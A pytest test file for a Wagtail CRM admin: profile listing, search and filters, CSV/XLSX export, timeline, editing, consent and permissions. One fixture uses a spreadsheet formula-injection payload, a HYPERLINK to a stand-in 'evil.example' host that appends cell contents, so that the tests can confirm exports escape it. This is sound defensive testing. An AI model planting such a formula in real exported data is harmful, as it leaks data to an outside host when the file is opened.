"""The CRM area of the Wagtail admin: profiles listing, detail page with timeline, edits, offline interactions."""

import csv
import io
import json
import uuid
from datetime import timedelta

import pytest
from django.test import override_settings
from django.urls import NoReverseMatch, reverse
from django.utils import timezone

from wagtail_crm.models import Interaction, VisitorProfile
from wagtail_crm.profiles.events import make_event
from wagtail_crm.profiles.ingest import ingest_events

from .conftest import staff_user

INDEX = "wagtail_crm_profiles:index"


def url(name, *args):
    return reverse(f"wagtail_crm_profiles:{name}", args=args)


def record(profile, kind, when, channel="store", **data):
    ingest_events([make_event(kind, profile_id=profile.pk, channel=channel, occurred_at=when, data=data)])


def sidebar_menu(response):
    start = response.content.index(b'id="wagtail-sidebar-props"')
    start = response.content.index(b">", start) + 1
    end = response.content.index(b"</script>", start)
    props = json.loads(response.content[start:end])
    main_menu = next(m for m in props["modules"] if m["_type"] == "wagtail.sidebar.MainMenuModule")
    return main_menu["_args"][0]


@pytest.fixture
def people(db, django_user_model):
    ann_user = django_user_model.objects.create_user("annl", "ann@example.com", "secret")
    ann = VisitorProfile.objects.create(
        first_name="Ann",
        last_name="Lovelace",
        email="ann@example.com",
        phone="+44 7700 900123",
        user=ann_user,
        email_consent=True,
        first_utm_source="newsletter",
        last_utm_campaign="spring-sale",
        visit_count=3,
    )
    bob = VisitorProfile.objects.create(
        first_name="Bob",
        last_name="Stone",
        email="bob@example.org",
        first_utm_source="google",
        last_utm_campaign="autumn",
    )
    tombstone = VisitorProfile.objects.create(first_name="Merged Ghost", merged_into=ann)
    return ann, bob, tombstone


def listed_names(response):
    return [row.display_name for row in response.context["object_list"]]


# --- menu and listing -------------------------------------------------------------------------------------


def test_crm_menu_group_holds_every_crm_area(admin_client, db):
    response = admin_client.get(reverse("wagtailadmin_home"))
    crm = next(item for item in sidebar_menu(response) if item["_args"][0]["name"] == "wagtail_crm")
    assert crm["_type"] == "wagtail.sidebar.SubMenuItem"
    assert crm["_args"][0]["label"] == "CRM"
    links = {item["_args"][0]["label"]: item["_args"][0]["url"] for item in crm["_args"][1]}
    assert links == {
        "Profiles": url("index"),
        "Interactions": reverse("wagtail_crm_interactions:index"),
        "Segments": reverse("wagtail_crm_segments:list"),
        "Offer codes": "/admin/crm/offer-codes/",
        "Personalisation": "/admin/crm/personalisation/",
    }


def test_crm_menu_is_hidden_from_staff_without_crm_permissions(client, django_user_model, db):
    client.force_login(staff_user(django_user_model, "editor"))
    response = client.get(reverse("wagtailadmin_home"))
    assert "wagtail_crm" not in [item["_args"][0]["name"] for item in sidebar_menu(response)]


def test_listing_shows_live_profiles_but_not_merge_tombstones(admin_client, people):
    ann, bob, tombstone = people
    response = admin_client.get(url("index"))
    assert response.status_code == 200
    assert sorted(listed_names(response)) == ["Ann Lovelace", "Bob Stone"]
    content = response.content.decode()
    assert "Ann Lovelace" in content and "bob@example.org" in content and "spring-sale" in content
    assert "Merged Ghost" not in content
    # Each name links to the profile's detail page.
    assert url("inspect", ann.pk) in content


@pytest.mark.parametrize(
    "query, expected",
    [
        ("lovelace", ["Ann Lovelace"]),
        ("ann lovelace", ["Ann Lovelace"]),
        ("EXAMPLE.ORG", ["Bob Stone"]),
        ("07700900123", []),  # a different number (national format) is not a match
        ("7700900123", ["Ann Lovelace"]),  # digits only, the stored number has spaces
        ("+44 7700", ["Ann Lovelace"]),
        ("ghost", []),
    ],
)
def test_search_by_name_email_and_phone(admin_client, people, query, expected):
    response = admin_client.get(url("index"), {"q": query})
    assert response.status_code == 200
    assert listed_names(response) == expected


def test_filters_offer_the_sources_and_campaigns_in_use(admin_client, people):
    response = admin_client.get(url("index"))
    filters = response.context["filters"].form
    assert [value for value, _label in filters.fields["source"].choices if value] == ["google", "newsletter"]
    assert [value for value, _label in filters.fields["campaign"].choices if value] == [
        "autumn",
        "spring-sale",
    ]


@pytest.mark.parametrize(
    "params, expected",
    [
        ({"source": "newsletter"}, ["Ann Lovelace"]),
        ({"campaign": "autumn"}, ["Bob Stone"]),
        ({"has_user": "true"}, ["Ann Lovelace"]),
        ({"has_user": "false"}, ["Bob Stone"]),
        ({"email_consent": "true"}, ["Ann Lovelace"]),
        ({"email_consent": "false"}, ["Bob Stone"]),
        ({"phone_consent": "true"}, []),
    ],
)
def test_filters(admin_client, people, params, expected):
    response = admin_client.get(url("index"), params)
    assert response.status_code == 200
    assert sorted(listed_names(response)) == expected


# --- export -----------------------------------------------------------------------------------------------


@pytest.fixture
def formula_profile(db):
    profile = VisitorProfile.objects.create(
        first_name='=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        last_name="@SUM(1+1)",
        email="eve@example.com",
        phone="+1 555 0100",
    )
    record(profile, "offline_purchase", timezone.now() - timedelta(days=1), amount="-12.50")
    return profile


def test_csv_export_escapes_formulas_and_excludes_tombstones(admin_client, people, formula_profile):
    response = admin_client.get(url("index"), {"export": "csv"})
    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="visitor-profiles.csv"'
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    by_email = {row["Email"]: row for row in rows}
    assert set(by_email) == {"ann@example.com", "bob@example.org", "eve@example.com"}
    eve = by_email["eve@example.com"]
    assert eve["First name"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    assert eve["Last name"] == "'@SUM(1+1)"
    assert eve["Phone"] == "'+1 555 0100"
    assert eve["Orders"] == "1"
    assert eve["Total spend"] == "-12.5"  # a plain number stays a number
    assert by_email["ann@example.com"]["User"] == "annl"


def test_xlsx_export_stores_formulas_as_text(admin_client, formula_profile):
    from openpyxl import load_workbook

    response = admin_client.get(url("index"), {"export": "xlsx"})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    header = [cell.value for cell in sheet[1]]
    row = sheet[2]
    cell = row[header.index("First name")]
    assert cell.data_type == "s"  # text, not a formula
    assert cell.value == '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def test_export_respects_filters(admin_client, people):
    response = admin_client.get(url("index"), {"export": "csv", "source": "google"})
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert [row["Email"] for row in rows] == ["bob@example.org"]


# --- detail page and timeline -----------------------------------------------------------------------------


def test_detail_page_shows_contact_consent_attribution_stats_and_timeline(admin_client, people, home):
    ann, _bob, _tombstone = people
    shoes = home.get_descendants().get(slug="shoes")
    now = timezone.now()
    ingest_events(
        [
            make_event("page_view", profile_id=ann.pk, page_id=shoes.pk, occurred_at=now - timedelta(days=3)),
            make_event(
                "offline_purchase",
                profile_id=ann.pk,
                channel="store",
                occurred_at=now - timedelta(days=1),
                data={"amount": "42.00", "currency": "GBP", "note": "<b>red</b> shoes"},
            ),
        ]
    )
    response = admin_client.get(url("inspect", ann.pk))
    assert response.status_code == 200
    content = response.content.decode()
    for text in (
        "Ann",
        "Lovelace",
        "ann@example.com",
        "+44 7700 900123",
        "annl",
        "newsletter",
        "spring-sale",
    ):
        assert text in content
    assert "Total spend" in content and "42.0" in content
    entries = response.context["timeline_entries"]
    assert [entry.kind_label for entry in entries] == ["In-store purchase", "Page view"]
    assert entries[0].channel_label == "Offline / in store"
    assert ("Amount", "42.00 GBP") in entries[0].details
    assert "&lt;b&gt;red&lt;/b&gt; shoes" in content  # visitor/staff text is escaped
    assert f'<a href="{shoes.url}">Shoes</a>' in content
    assert "Add offline interaction" in content


@override_settings(WAGTAIL_CRM={"TIMELINE_PAGE_SIZE": 2})
def test_timeline_is_paged_newest_first(admin_client, people):
    ann = people[0]
    start = timezone.now() - timedelta(days=10)
    ingest_events(
        [
            make_event(
                "letter",
                profile_id=ann.pk,
                channel="mail",
                occurred_at=start + timedelta(days=i),
                data={"note": f"letter {i}"},
            )
            for i in range(5)
        ]
    )
    first = admin_client.get(url("inspect", ann.pk))
    assert [dict(e.details)["Note"] for e in first.context["timeline_entries"]] == ["letter 4", "letter 3"]
    assert "Page 1 of 3" in first.content.decode()
    last = admin_client.get(url("inspect", ann.pk), {"p": 3})
    assert [dict(e.details)["Note"] for e in last.context["timeline_entries"]] == ["letter 0"]
    assert admin_client.get(url("inspect", ann.pk), {"p": "nonsense"}).status_code == 200


def test_detail_of_a_merged_profile_redirects_to_the_profile_it_joined(admin_client, people):
    ann, _bob, tombstone = people
    response = admin_client.get(url("inspect", tombstone.pk))
    assert response.status_code == 302
    assert response["Location"] == url("inspect", ann.pk)
    assert admin_client.get(url("edit", tombstone.pk)).status_code == 404
    assert admin_client.get(url("delete", tombstone.pk)).status_code == 404


def test_unknown_profile_is_404(admin_client, db):
    assert admin_client.get(url("inspect", 999999)).status_code == 404


# --- editing ----------------------------------------------------------------------------------------------


def edit_data(profile, **changes):
    data = {
        "first_name": profile.first_name,
        "last_name": profile.last_name,
        "email": profile.email,
        "phone": profile.phone,
    }
    if profile.email_consent:
        data["email_consent"] = "on"
    if profile.phone_consent:
        data["phone_consent"] = "on"
    data.update(changes)
    return {key: value for key, value in data.items() if value is not None}


def test_edit_form_has_only_contact_and_consent_fields(admin_client, people):
    response = admin_client.get(url("edit", people[0].pk))
    assert response.status_code == 200
    assert set(response.context["form"].fields) == {
        "first_name",
        "last_name",
        "email",
        "phone",
        "email_consent",
        "phone_consent",
    }


def test_changing_consent_records_when_it_changed(admin_client, people):
    ann = people[0]
    before = timezone.now()
    response = admin_client.post(url("edit", ann.pk), edit_data(ann, phone_consent="on", email_consent=None))
    assert response.status_code == 302
    ann.refresh_from_db()
    assert ann.phone_consent is True and ann.phone_consent_at >= before
    assert ann.email_consent is False and ann.email_consent_at >= before

    stamp = ann.phone_consent_at
    response = admin_client.post(url("edit", ann.pk), edit_data(ann, first_name="Annie"))
    ann.refresh_from_db()
    assert ann.first_name == "Annie"
    assert ann.phone_consent_at == stamp  # consent untouched: its timestamp too


def test_editing_keeps_recorded_activity(admin_client, people):
    ann = people[0]
    record(ann, "offline_purchase", timezone.now(), amount="10")
    admin_client.post(url("edit", ann.pk), edit_data(ann, last_name="King"))
    ann.refresh_from_db()
    assert ann.last_name == "King"
    assert ann.facts["spend"] == 10.0 and ann.visit_count == 3


def test_edit_rejects_an_email_another_profile_has_and_bad_phone_numbers(admin_client, people):
    ann, bob, _ = people
    response = admin_client.post(
        url("edit", bob.pk), edit_data(bob, email="ANN@example.com", phone="call me")
    )
    assert response.status_code == 200
    errors = response.context["form"].errors
    assert "Another profile (Ann Lovelace) already has this email address." in errors["email"]
    assert "phone" in errors
    bob.refresh_from_db()
    assert bob.email == "bob@example.org"


def test_add_an_offline_customer(admin_client, db):
    response = admin_client.post(
        url("add"),
        {
            "first_name": "Carla",
            "last_name": "Shop",
            "email": "carla@example.com",
            "phone": "0113 496 0000",
            "phone_consent": "on",
        },
    )
    profile = VisitorProfile.objects.get(email="carla@example.com")
    assert response.status_code == 302 and response["Location"] == url("inspect", profile.pk)
    assert profile.phone_consent and profile.phone_consent_at is not None
    assert not profile.email_consent and profile.email_consent_at is None
    assert len(profile.visitor_id) == 32


def test_adding_an_empty_profile_is_refused(admin_client, db):
    response = admin_client.post(url("add"), {"first_name": "", "email": "", "phone": ""})
    assert response.status_code == 200
    assert "Enter at least a name, an email address or a phone number." in response.content.decode()
    assert not VisitorProfile.objects.exists()


def test_deleting_a_profile_removes_its_timeline(admin_client, people):
    ann = people[0]
    record(ann, "letter", timezone.now(), channel="mail")
    confirm = admin_client.get(url("delete", ann.pk))
    assert confirm.status_code == 200 and "Ann Lovelace" in confirm.content.decode()
    response = admin_client.post(url("delete", ann.pk))
    assert response.status_code == 302
    assert not VisitorProfile.objects.filter(pk=ann.pk).exists()
    assert not Interaction.objects.exists()


def test_profiles_cannot_be_copied(db):
    with pytest.raises(NoReverseMatch):
        reverse("wagtail_crm_profiles:copy", args=[1])


# --- offline interactions ---------------------------------------------------------------------------------


def interaction_data(**changes):
    data = {
        "kind": "offline_purchase",
        "channel": "store",
        "occurred_at": (timezone.now() - timedelta(hours=2)).strftime("%Y-%m-%d %H:%M"),
        "amount": "25.50",
        "note": "Paid cash",
        "event_id": str(uuid.uuid4()),
    }
    data.update(changes)
    return data


def test_add_offline_interaction_updates_timeline_and_facts(admin_client, admin_user, people):
    ann = people[0]
    form_page = admin_client.get(url("add_interaction", ann.pk))
    assert form_page.status_code == 200
    assert "Ann Lovelace" in form_page.content.decode()

    data = interaction_data()
    response = admin_client.post(url("add_interaction", ann.pk), data, follow=True)
    assert response.redirect_chain[-1][0] == url("inspect", ann.pk)
    assert "In-store purchase recorded for Ann Lovelace." in response.content.decode()
    interaction = Interaction.objects.get(profile=ann, kind="offline_purchase")
    assert interaction.channel == "store"
    assert interaction.recorded_by == admin_user
    assert interaction.data == {"amount": "25.50", "note": "Paid cash"}
    assert str(interaction.event_id) == data["event_id"]
    ann.refresh_from_db()
    assert ann.facts["orders"] == 1 and ann.facts["spend"] == 25.5
    assert [entry.kind_label for entry in response.context["timeline_entries"]] == ["In-store purchase"]

    # Submitting the same form again (double click, back button) records nothing new.
    again = admin_client.post(url("add_interaction", ann.pk), data, follow=True)
    assert "already been recorded" in again.content.decode()
    assert Interaction.objects.filter(profile=ann).count() == 1


def test_add_phone_call_and_custom_kind(admin_client, people):
    ann = people[0]
    admin_client.post(
        url("add_interaction", ann.pk), interaction_data(kind="call_logged", channel="phone", amount="")
    )
    admin_client.post(
        url("add_interaction", ann.pk), interaction_data(kind="custom", custom_kind="store_visit", amount="")
    )
    assert sorted(Interaction.objects.filter(profile=ann).values_list("kind", "channel")) == [
        ("call_logged", "phone"),
        ("store_visit", "store"),
    ]
    ann.refresh_from_db()
    assert ann.facts.get("orders", 0) == 0


@pytest.mark.parametrize(
    "changes, field",
    [
        ({"occurred_at": (timezone.now() + timedelta(days=2)).strftime("%Y-%m-%d %H:%M")}, "occurred_at"),
        ({"amount": "lots"}, "amount"),
        ({"channel": "online"}, "channel"),
        ({"kind": "page_view"}, "kind"),
        ({"kind": "custom", "custom_kind": "Not A Slug"}, "custom_kind"),
        ({"kind": "letter", "custom_kind": "store_visit"}, "custom_kind"),
        ({"kind": "custom", "custom_kind": "page_view"}, "custom_kind"),
    ],
)
def test_add_offline_interaction_rejects_bad_input(admin_client, people, changes, field):
    ann = people[0]
    response = admin_client.post(url("add_interaction", ann.pk), interaction_data(**changes))
    assert response.status_code == 200
    assert field in response.context["form"].errors
    assert not Interaction.objects.filter(profile=ann).exists()


def test_add_offline_interaction_to_a_tombstone_is_404(admin_client, people):
    tombstone = people[2]
    assert admin_client.get(url("add_interaction", tombstone.pk)).status_code == 404


# --- permissions ------------------------------------------------------------------------------------------


def test_staff_without_profile_permissions_is_turned_away(client, django_user_model, people):
    ann = people[0]
    client.force_login(staff_user(django_user_model, "editor"))
    for target in (
        url("index"),
        url("inspect", ann.pk),
        url("edit", ann.pk),
        url("add"),
        url("add_interaction", ann.pk),
        url("import"),
        reverse("wagtail_crm_interactions:index"),
    ):
        response = client.get(target)
        assert response.status_code == 302, target
        assert response["Location"] == reverse("wagtailadmin_home"), target
    assert client.post(url("add_interaction", ann.pk), interaction_data()).status_code == 302
    assert not Interaction.objects.exists()


def test_view_permission_reads_but_cannot_edit_or_record(client, django_user_model, people):
    ann = people[0]
    client.force_login(staff_user(django_user_model, "viewer", "view_visitorprofile"))
    listing = client.get(url("index"))
    assert listing.status_code == 200
    assert "Import offline transactions" not in listing.content.decode()
    detail = client.get(url("inspect", ann.pk))
    assert detail.status_code == 200
    assert "Add offline interaction" not in detail.content.decode()
    assert url("edit", ann.pk) not in detail.content.decode()
    assert client.get(url("edit", ann.pk)).status_code == 302
    assert client.get(url("add_interaction", ann.pk)).status_code == 302


def test_add_interaction_permission_allows_recording(client, django_user_model, people):
    ann = people[0]
    client.force_login(staff_user(django_user_model, "shop", "view_visitorprofile", "add_interaction"))
    detail = client.get(url("inspect", ann.pk))
    assert url("add_interaction", ann.pk) in detail.content.decode()
    assert "Import offline transactions" in client.get(url("index")).content.decode()
    response = client.post(url("add_interaction", ann.pk), interaction_data())
    assert response.status_code == 302
    assert Interaction.objects.get(profile=ann).recorded_by.username == "shop"


# --- the interactions listing -----------------------------------------------------------------------------


@pytest.fixture
def timeline(people):
    ann, bob, _ = people
    now = timezone.now()
    record(ann, "offline_purchase", now - timedelta(days=2), amount="=1+1")
    record(bob, "call_logged", now - timedelta(days=20), channel="phone", note="asked about sizes")
    record(bob, "store_visit", now - timedelta(hours=1))
    return ann, bob


def test_interaction_listing_filters_and_links(admin_client, timeline):
    ann, bob = timeline
    index = reverse("wagtail_crm_interactions:index")
    response = admin_client.get(index)
    assert response.status_code == 200
    content = response.content.decode()
    assert "In-store purchase" in content and "Phone call" in content and "Store visit" in content
    assert url("inspect", ann.pk) in content
    kinds = [value for value, _label in response.context["filters"].form.fields["kind"].choices]
    assert "store_visit" in kinds and "offline_purchase" in kinds

    by_channel = admin_client.get(index, {"channel": "phone"})
    assert [i.kind for i in by_channel.context["object_list"]] == ["call_logged"]
    by_kind = admin_client.get(index, {"kind": "store_visit"})
    assert [i.profile for i in by_kind.context["object_list"]] == [bob]
    since = (timezone.now() - timedelta(days=5)).date().isoformat()
    by_date = admin_client.get(index, {"occurred_at_from": since})
    assert sorted(i.kind for i in by_date.context["object_list"]) == ["offline_purchase", "store_visit"]


def test_interaction_listing_is_read_only(admin_client, timeline):
    interaction = Interaction.objects.get(kind="call_logged")
    response = admin_client.get(reverse("wagtail_crm_interactions:index"))
    assert "Add interaction" not in response.content.decode()
    for name in ("add", "edit", "delete", "copy"):
        with pytest.raises(NoReverseMatch):
            reverse(f"wagtail_crm_interactions:{name}", args=[interaction.pk] if name != "add" else [])
    detail = admin_client.get(reverse("wagtail_crm_interactions:inspect", args=[interaction.pk]))
    assert detail.status_code == 200
    assert "asked about sizes" in detail.content.decode()
    assert "Bob Stone" in detail.content.decode()


def test_interaction_export_is_formula_safe(admin_client, timeline):
    response = admin_client.get(reverse("wagtail_crm_interactions:index"), {"export": "csv"})
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert {row["Kind"] for row in rows} == {"offline_purchase", "call_logged", "store_visit"}
    purchase = next(row for row in rows if row["Kind"] == "offline_purchase")
    assert purchase["Email"] == "ann@example.com"
    assert json.loads(purchase["Data"]) == {"amount": "=1+1"}


def test_interaction_permissions_offered_to_groups_are_add_and_view(admin_client, db):
    from wagtail import hooks

    registered = set()
    for fn in hooks.get_hooks("register_permissions"):
        registered |= set(fn().filter(content_type__model="interaction").values_list("codename", flat=True))
    assert registered == {"add_interaction", "view_interaction"}
